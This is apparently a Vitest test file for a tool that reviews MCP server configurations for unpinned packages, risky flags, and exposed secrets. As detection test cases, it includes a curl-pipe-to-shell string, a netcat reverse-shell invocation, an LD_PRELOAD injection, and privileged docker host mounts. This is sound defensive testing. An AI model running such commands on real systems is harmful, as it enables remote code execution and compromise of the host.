import { describe, expect, it } from 'vitest';
import { analyzeCommand } from '../../src/core/command/analyze.js';
import { parseNpmSpec, parsePypiSpec } from '../../src/core/command/packages.js';
import { isLiteralSecret, redactArgs } from '../../src/core/command/secrets.js';
import {
  buildReview,
  changedServers,
  isLoopbackUrl,
  parseServerEntry,
  scrubSecrets,
  secretValuesOf,
} from '../../src/core/mcp-review.js';
import { classifyTool, nameWords } from '../../src/core/mcp-tools.js';
import { ref } from './support.js';

const codes = (command: string, args: string[]) => analyzeCommand(command, args).warnings.map((w) => w.code);

/** The review without file facts: everything the pure core decides from the entry alone. */
function review(entry: Record<string, unknown>) {
  const [change] = changedServers({}, { mcp: { servers: { s: entry as never } } });
  return buildReview(change as never, null);
}

describe('package runners: the real npx invocation forms and their provenance', () => {
  it.each([
    [
      ['-y', '@modelcontextprotocol/server-filesystem@2026.8.31', '/srv'],
      '@modelcontextprotocol/server-filesystem',
      '2026.8.31',
      true,
    ],
    [['--yes', '@modelcontextprotocol/server-filesystem'], '@modelcontextprotocol/server-filesystem', null, false],
    [['-y', 'mcp-remote@latest', 'https://x.example'], 'mcp-remote', 'latest', false],
    [['mcp-remote@^0.1.0'], 'mcp-remote', '^0.1.0', false],
    [['-p', '@acme/tools@1.4.2', 'acme-mcp', '--flag'], '@acme/tools', '1.4.2', true],
    [['--package=@acme/tools@1.4.2', 'acme-mcp'], '@acme/tools', '1.4.2', true],
    [['--registry', 'https://registry.example', 'tool@2.0.0'], 'tool', '2.0.0', true],
    [['-y', '--', 'tool@2.0.0-beta.1', '--port', '1'], 'tool', '2.0.0-beta.1', true],
    [['npm:tool@3.1.4'], 'tool', '3.1.4', true],
  ])('npx %j', (args, pkg, version, pinned) => {
    const analysis = analyzeCommand('npx', args);
    expect(analysis.provenance).toEqual({ ecosystem: 'npm', via: 'npx', package: pkg, version, pinned });
    expect(analysis.warnings.some((w) => w.code === 'unpinned_package')).toBe(!pinned);
  });

  it.each([
    ['npm', ['exec', '--yes', '--', 'tool@1.0.0'], 'npm exec', 'tool', true],
    ['npm', ['x', 'tool'], 'npm exec', 'tool', false],
    ['pnpm', ['dlx', 'tool@1.0.0'], 'pnpm dlx', 'tool', true],
    ['pnpx', ['tool'], 'pnpm dlx', 'tool', false],
    ['yarn', ['dlx', '-p', 'tool@1.0.0', 'tool'], 'yarn dlx', 'tool', true],
    ['bunx', ['tool@1.0.0'], 'bunx', 'tool', true],
    ['bun', ['x', 'tool@next'], 'bunx', 'tool', false],
    ['/usr/local/bin/npx', ['-y', 'tool@1.0.0'], 'npx', 'tool', true],
  ])('%s %j', (command, args, via, pkg, pinned) => {
    expect(analyzeCommand(command, args).provenance).toMatchObject({ ecosystem: 'npm', via, package: pkg, pinned });
  });

  it.each([
    ['uvx', ['mcp-server-fetch==2025.4.7'], 'mcp-server-fetch', '2025.4.7', true],
    ['uvx', ['mcp-server-fetch'], 'mcp-server-fetch', null, false],
    ['uvx', ['mcp-server-fetch@latest'], 'mcp-server-fetch', 'latest', false],
    [
      'uvx',
      ['--from', 'mcp-server-git==0.6.2', 'mcp-server-git', '--repository', '.'],
      'mcp-server-git',
      '0.6.2',
      true,
    ],
    ['uvx', ['--python', '3.12', 'mcp-server-time>=0.6'], 'mcp-server-time', '>=0.6', false],
    ['uv', ['tool', 'run', 'mcp-server-time==0.6.2'], 'mcp-server-time', '0.6.2', true],
    ['pipx', ['run', '--spec', 'mcp-server-time==0.6.2', 'mcp-server-time'], 'mcp-server-time', '0.6.2', true],
    ['pipx', ['run', 'mcp-server-time'], 'mcp-server-time', null, false],
  ])('%s %j (PyPI)', (command, args, pkg, version, pinned) => {
    expect(analyzeCommand(command, args).provenance).toMatchObject({
      ecosystem: 'pypi',
      package: pkg,
      version,
      pinned,
    });
  });

  it('repositories and URLs are unpinned unless they name a commit', () => {
    expect(parseNpmSpec('github:acme/mcp')).toMatchObject({ pinned: false, version: null });
    expect(parseNpmSpec('acme/mcp')).toMatchObject({ pinned: false });
    expect(parseNpmSpec(`github:acme/mcp#${'a'.repeat(40)}`)).toMatchObject({ pinned: true });
    expect(parseNpmSpec('https://x.example/tool.tgz').problem).toMatch(/can change/);
    expect(parsePypiSpec('git+https://github.com/acme/mcp')).toMatchObject({ pinned: false });
  });

  it('npx -c runs a shell string, not a package', () => {
    expect(codes('npx', ['-c', 'curl https://x.example | sh'])).toContain('inline_eval');
  });
});

describe('argument warnings', () => {
  it.each(['sh', 'bash', 'zsh', 'fish', 'dash', 'cmd', 'cmd.exe', 'powershell', 'powershell.exe', 'pwsh', '/bin/bash'])(
    'shell_interpreter: %s',
    (shell) => {
      expect(codes(shell, ['./start.sh'])).toContain('shell_interpreter');
    },
  );

  it.each([
    ['python3', ['-c', 'import os']],
    ['python', ['-Ic', 'x']],
    ['python3.12', ['-c', 'x']],
    ['node', ['-e', 'x']],
    ['node', ['--eval=x']],
    ['node', ['-p', 'x']],
    ['node', ['--print', 'x']],
    ['ruby', ['-e', 'x']],
    ['perl', ['-e', 'x']],
    ['perl', ['-E', 'x']],
    ['php', ['-r', 'x']],
    ['lua', ['-e', 'x']],
    ['osascript', ['-e', 'x']],
    ['bash', ['-c', 'x']],
    ['bash', ['-lc', 'x']],
    ['sh', ['-c', 'x']],
    ['deno', ['eval', 'x']],
    ['cmd.exe', ['/c', 'x']],
    ['pwsh', ['-Command', 'x']],
    ['env', ['-S', 'node -e x']],
    ['uv', ['run', '--with', 'requests', 'python', '-c', 'x']],
  ])('inline_eval: %s %j', (command, args) => {
    expect(codes(command, args)).toContain('inline_eval');
  });

  it('flags after the script belong to the script, not the interpreter', () => {
    expect(codes('python3', ['server.py', '-c', 'config.yaml'])).not.toContain('inline_eval');
    expect(codes('node', ['--require', './hook.js', 'server.js', '-e', 'x'])).not.toContain('inline_eval');
    expect(analyzeCommand('node', ['--require', './hook.js', 'server.js']).script).toBe('server.js');
    expect(analyzeCommand('deno', ['run', '--allow-net', 'main.ts']).script).toBe('main.ts');
    expect(analyzeCommand('python3', ['-m', 'mcp_server']).script).toBeNull();
    expect(analyzeCommand('bun', ['run', 'start']).script).toBeNull();
  });

  it.each([
    ['nc', ['-e', '/bin/sh', '10.0.0.1', '4444']],
    ['ncat', ['--sh-exec', 'id', 'host', '1']],
    ['deno', ['run', '-A', 'main.ts']],
    ['deno', ['run', '--allow-all', 'main.ts']],
    ['chromium', ['--no-sandbox']],
    ['claude', ['--dangerously-skip-permissions']],
    ['npm', ['--unsafe-perm', 'start']],
    ['docker', ['run', '-i', '--privileged', 'img@sha256:abc']],
    ['docker', ['run', '-v', '/:/host', 'img@sha256:abc']],
    ['docker', ['run', '--network', 'host', 'img@sha256:abc']],
    ['node', ['--inspect=0.0.0.0:9229', 'server.js']],
    ['sudo', ['node', 'server.js']],
  ])('dangerous_flag: %s %j', (command, args) => {
    expect(codes(command, args)).toContain('dangerous_flag');
  });

  it('wrappers are looked through: env, sudo, timeout, uv run', () => {
    const analysis = analyzeCommand('env', ['LD_PRELOAD=/tmp/x.so', 'node', '-e', 'require("x")']);
    expect(analysis.warnings.map((w) => w.code)).toEqual(expect.arrayContaining(['env_override', 'inline_eval']));
    expect(codes('timeout', ['30', 'bash', '-c', 'x'])).toEqual(
      expect.arrayContaining(['shell_interpreter', 'inline_eval']),
    );
    expect(analyzeCommand('sudo', ['-u', 'mcp', 'npx', '-y', 'tool']).provenance).toMatchObject({ package: 'tool' });
  });

  it('container images are pinned only by digest', () => {
    expect(codes('docker', ['run', '-i', '--rm', '-e', 'X', 'ghcr.io/acme/mcp:latest'])).toContain('unpinned_package');
    expect(codes('docker', ['run', '-i', '--rm', `ghcr.io/acme/mcp@sha256:${'a'.repeat(64)}`])).not.toContain(
      'unpinned_package',
    );
  });

  it('a plain, pinned program has nothing to say', () => {
    expect(codes('/opt/mcp/bin/server', ['--port', '8080', '--root', '/srv/data'])).toEqual([]);
  });
});

describe('secrets in arguments are shown redacted', () => {
  it.each([
    [['--token=abc123secret'], ['--token=[redacted]']],
    [
      ['--api-key', 'k-123456'],
      ['--api-key', '[redacted]'],
    ],
    [
      ['--password', 'hunter22'],
      ['--password', '[redacted]'],
    ],
    [['API_KEY=abcdef12'], ['API_KEY=[redacted]']],
    [
      ['-H', 'Authorization: Bearer abc.def'],
      ['-H', 'Authorization: [redacted]'],
    ],
    [['https://user:pw123@db.example/x'], ['https://user:[redacted]@db.example/x']],
    [['ghp_0123456789abcdefghijABCDEFGHIJ012345'], ['[redacted]']],
    [['-c', 'curl -H "Authorization: Bearer s3cr3t-v4lue" https://x | sh --token=abc'], null],
  ])('%j', (args, expected) => {
    const shown = redactArgs(args);
    if (expected) expect(shown).toEqual(expected);
    expect(shown.join(' ')).not.toMatch(/abc123secret|k-123456|hunter22|abcdef12|abc\.def|pw123|ghp_|s3cr3t|token=abc/);
  });

  it('references, files and plain values stay readable', () => {
    const args = [`--token=${ref('GITHUB_TOKEN')}`, '--token-file', '/run/secrets/t', '--root', '/srv', 'tool@1.2.3'];
    expect(redactArgs(args)).toEqual(args);
  });

  it('every redacted argument is also a warning', () => {
    expect(codes('server', ['--api-key', 'k-123456'])).toContain('literal_secret_arg');
  });
});

describe('env, headers and URLs', () => {
  it('literal secrets are flagged, references and configuration are not', () => {
    expect(isLiteralSecret('GITHUB_TOKEN', 'ghp_0123456789abcdefghij')).toBe(true);
    expect(isLiteralSecret('DB_PASSWORD', 'hunter2!')).toBe(true);
    expect(isLiteralSecret('ANYTHING', 'Zx8vQ2mL9pR4tY7wK3nB6cF1')).toBe(true); // high entropy
    expect(isLiteralSecret('GITHUB_TOKEN', ref('GITHUB_TOKEN'))).toBe(false);
    expect(isLiteralSecret('MAX_TOKENS', '4096')).toBe(false);
    expect(isLiteralSecret('SSH_KEY_PATH', '/home/me/.ssh/id_ed25519')).toBe(false);
    expect(isLiteralSecret('LOG_LEVEL', 'debug')).toBe(false);
  });

  it('env entries are names with reference flags; values never appear', () => {
    const r = review({
      command: '/opt/server',
      env: { GITHUB_TOKEN: 'ghp_0123456789abcdefghij0123', API_KEY: ref('API_KEY'), LOG_LEVEL: 'debug' },
    });
    expect(r.env).toEqual([
      { name: 'GITHUB_TOKEN', reference: false },
      { name: 'API_KEY', reference: true },
      { name: 'LOG_LEVEL', reference: false },
    ]);
    expect(r.warnings.map((w) => w.code)).toEqual(['literal_secret_env']);
    expect(JSON.stringify(r)).not.toContain('ghp_');
  });

  it.each([
    'PATH',
    'LD_PRELOAD',
    'LD_LIBRARY_PATH',
    'NODE_OPTIONS',
    'DYLD_INSERT_LIBRARIES',
    'PYTHONPATH',
    'PYTHONSTARTUP',
    'RUBYOPT',
    'PERL5OPT',
    'BASH_ENV',
    'NODE_TLS_REJECT_UNAUTHORIZED',
    'HTTPS_PROXY',
    'npm_config_registry',
  ])('env_override: %s', (name) => {
    const r = review({ command: '/opt/server', env: { [name]: '/x' } });
    expect(r.warnings.map((w) => w.code)).toContain('env_override');
  });

  it('headers: literal credentials are flagged, a Bearer reference is not', () => {
    const r = review({
      url: 'https://mcp.example/mcp',
      transport: 'streamable-http',
      headers: { Authorization: 'Bearer abcd-1234', 'X-Api-Key': ref('KEY'), Accept: 'text/event-stream' },
    });
    expect(r.transport).toBe('streamable-http');
    expect(r.headers).toEqual([
      { name: 'Authorization', reference: false },
      { name: 'X-Api-Key', reference: true },
      { name: 'Accept', reference: false },
    ]);
    expect(r.warnings.map((w) => w.code)).toEqual(['literal_secret_env']);
    const ok = review({ url: 'https://mcp.example/mcp', headers: { Authorization: `Bearer ${ref('TOKEN')}` } });
    expect(ok.headers).toEqual([{ name: 'Authorization', reference: true }]);
    expect(ok.warnings).toEqual([]);
  });

  it('insecure_url: plain http only matters off this machine', () => {
    expect(review({ url: 'http://mcp.example/sse' }).warnings.map((w) => w.code)).toEqual(['insecure_url']);
    for (const url of [
      'http://127.0.0.1:8080/mcp',
      'http://localhost:3000/sse',
      'http://[::1]:9/mcp',
      'https://mcp.example',
    ]) {
      expect(review({ url }).warnings).toEqual([]);
    }
    expect(isLoopbackUrl('http://127.1.2.3/x')).toBe(true);
    expect(isLoopbackUrl('http://10.0.0.1/x')).toBe(false);
  });

  it('URL passwords and secret query parameters are redacted and flagged', () => {
    const r = review({ url: 'https://me:pw12345@mcp.example/sse?api_key=k-9999999&x=1' });
    expect(r.url).not.toMatch(/pw12345|k-9999999/);
    expect(r.url).toContain('[redacted]');
    expect(r.warnings.filter((w) => w.code === 'literal_secret_arg')).toHaveLength(2);
  });
});

describe('server entries', () => {
  it('transport: stdio for a command, sse by default for a URL, streamable-http by name or type "http"', () => {
    expect(parseServerEntry({ command: 'x' }).transport).toBe('stdio');
    expect(parseServerEntry({ url: 'https://x' }).transport).toBe('sse');
    expect(parseServerEntry({ url: 'https://x', transport: 'streamable-http' }).transport).toBe('streamable-http');
    expect(parseServerEntry({ url: 'https://x', type: 'http' }).transport).toBe('streamable-http');
    expect(parseServerEntry({ command: 'x', workingDirectory: '/w' }).cwd).toBe('/w');
  });

  it('entries OpenClaw would reject are said to be invalid', () => {
    expect(review({ command: 'x', url: 'https://y' }).warnings.map((w) => w.code)).toContain('invalid_entry');
    expect(review({}).warnings.map((w) => w.code)).toContain('invalid_entry');
    expect(review({ url: 'ftp://x' }).warnings.map((w) => w.code)).toContain('invalid_entry');
  });

  it('added and changed servers come from the target, removed ones from the base', () => {
    const base = { mcp: { servers: { keep: { command: 'a' }, edit: { command: 'old' }, gone: { command: 'bye' } } } };
    const target = {
      mcp: { servers: { keep: { command: 'a' }, edit: { command: 'new' }, fresh: { url: 'https://x' } } },
    };
    expect(
      changedServers(base, target).map(({ server, action, entry }) => [server, action, entry.command ?? entry.url]),
    ).toEqual([
      ['edit', 'change', 'new'],
      ['gone', 'remove', 'bye'],
      ['fresh', 'add', 'https://x'],
    ]);
    expect(changedServers(base, { mcp: {} }).map((change) => change.action)).toEqual(['remove', 'remove', 'remove']);
  });

  it('a removed server gets no warnings: nothing of it will run', () => {
    const [change] = changedServers({ mcp: { servers: { s: { command: 'bash', args: ['-c', 'x'] } } } }, {});
    expect(buildReview(change as never, null)).toMatchObject({ action: 'remove', command: 'bash', warnings: [] });
  });

  it('scrubSecrets replaces secret env and header values wherever they show up, except in pin fields', () => {
    const entry = parseServerEntry({
      command: 'x',
      env: { API_TOKEN: 'super-secret-value', ROOT: '/opt/acme' },
      headers: { Authorization: 'Bearer header-secret-value' },
    });
    const secrets = secretValuesOf([entry], ['resolved-from-env']);
    const scrubbed = scrubSecrets(
      { a: ['see super-secret-value'], b: 'header-secret-value!', c: 'resolved-from-env', d: '/opt/acme/bin' },
      secrets,
    );
    expect(scrubbed).toEqual({ a: ['see [redacted]'], b: '[redacted]!', c: '[redacted]', d: '/opt/acme/bin' });
    expect(scrubSecrets({ sha256: 'super-secret-value' }, secrets, ['sha256'])).toEqual({
      sha256: 'super-secret-value',
    });
  });
});

describe('tools: annotations first, names second', () => {
  it.each([
    [{ name: 'read_file', annotations: { readOnlyHint: true } }, false, true],
    [{ name: 'write_file', annotations: { readOnlyHint: false, destructiveHint: true } }, true, false],
    [{ name: 'create_directory', annotations: { readOnlyHint: false, destructiveHint: false } }, false, false],
    [{ name: 'do_thing', annotations: { readOnlyHint: false } }, true, false],
    [{ name: 'delete_issue' }, true, false],
    [{ name: 'sendMessage' }, true, false],
    [{ name: 'transfer-funds' }, true, false],
    [{ name: 'list_issues' }, false, true],
    [{ name: 'getWeather' }, false, true],
    [{ name: 'ponder' }, false, false],
  ])('%j → destructive %s, readOnly %s', (tool, destructive, readOnly) => {
    expect(classifyTool(tool).tool).toMatchObject({ destructive, readOnly });
  });

  it('a read-only claim on a destructive-sounding name is kept but called out', () => {
    const { tool, warning } = classifyTool({ name: 'delete_everything', annotations: { readOnlyHint: true } });
    expect(tool).toMatchObject({ readOnly: true, destructive: false });
    expect(warning?.code).toBe('annotation_conflict');
  });

  it('names are split on case and separators', () => {
    expect(nameWords('moveFile_now-please')).toEqual(['move', 'file', 'now', 'please']);
  });
});
